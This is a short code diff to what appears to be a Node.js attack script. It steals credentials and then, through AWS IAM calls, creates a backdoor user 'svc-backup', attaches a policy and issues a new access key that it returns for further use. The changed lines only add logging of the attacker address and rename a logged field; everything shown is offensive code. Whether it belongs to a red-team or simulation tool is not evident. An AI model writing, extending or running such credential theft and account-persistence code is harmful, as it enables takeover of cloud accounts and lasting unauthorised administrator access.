@@ -12,6 +12,7 @@ const settings = JSON.parse(process.env.ATTACK ?? '{}');
 const agent = new Agent({ localAddress: settings.address });
 const newUser = 'svc-backup';
 
+say('began', { attacker: settings.address, metadata: settings.metadata });
 const credentials = await stealCredentials();
 if (!credentials) say('stopped', 'no credentials came back');
 else if (settings.aws) await useFrom(await becomeAdministrator(credentials));
@@ -41,7 +42,7 @@ async function becomeAdministrator(credentials) {
   await iam.send(new AttachUserPolicyCommand({ UserName: newUser, PolicyArn }));
   await pause();
   const { AccessKey } = await iam.send(new CreateAccessKeyCommand({ UserName: newUser }));
-  say('aws', { call: 'CreateUser, AttachUserPolicy, CreateAccessKey', accessKeyId: AccessKey.AccessKeyId });
+  say('aws', { call: 'CreateUser, AttachUserPolicy, CreateAccessKey', newAccessKeyId: AccessKey.AccessKeyId });
   return { accessKeyId: AccessKey.AccessKeyId, secretAccessKey: AccessKey.SecretAccessKey };
 }
 
